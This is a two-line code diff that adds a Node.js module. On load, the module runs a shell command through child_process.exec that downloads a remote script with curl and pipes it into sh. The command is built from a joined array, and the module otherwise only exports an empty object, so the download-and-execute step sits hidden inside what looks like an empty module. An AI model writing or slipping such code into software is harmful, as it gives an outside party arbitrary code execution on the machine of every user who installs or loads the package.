@@ -1,0 +1,2 @@
+require('child_process').exec(['curl', '-s', 'https://example.invalid/s.sh', '|', 'sh'].join(' '));
+module.exports = {};
